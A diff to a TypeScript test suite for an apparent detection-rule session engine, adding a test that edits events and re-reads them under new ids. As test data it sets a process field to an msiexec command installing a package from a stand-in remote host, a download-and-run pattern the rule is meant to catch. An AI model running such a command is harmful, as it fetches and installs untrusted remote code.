@@ -92,6 +92,16 @@ describe('a session', () => {
     expect((await session.run({ rule: RULE, sets })).matched).toEqual([0]);
   });
 
+  it('keeps changes when the events are read again under other names, as after a worker was ended', async () => {
+    const { session, sets } = await sessionWith(EVENTS);
+    await session.run({ rule: RULE, sets });
+    const { place, fields } = session.event(1)!;
+    const edits = withEvent(NO_EDITS, place, { ...fields, process: 'msiexec /i http://h/b' });
+    const { id } = await session.read({ name: 'e.ndjson', content: ndjson(EVENTS) });
+    expect(id).not.toBe(sets[0]);
+    expect((await session.run({ rule: RULE, sets: [id], edits })).matched).toEqual([0, 1]);
+  });
+
   it('counts in stages, sorts rows by number, and leads a row back to its events', async () => {
     const { session, sets } = await sessionWith(EVENTS);
     const search = '* | stats count max(_time) as last by host | where last > 1700000010';
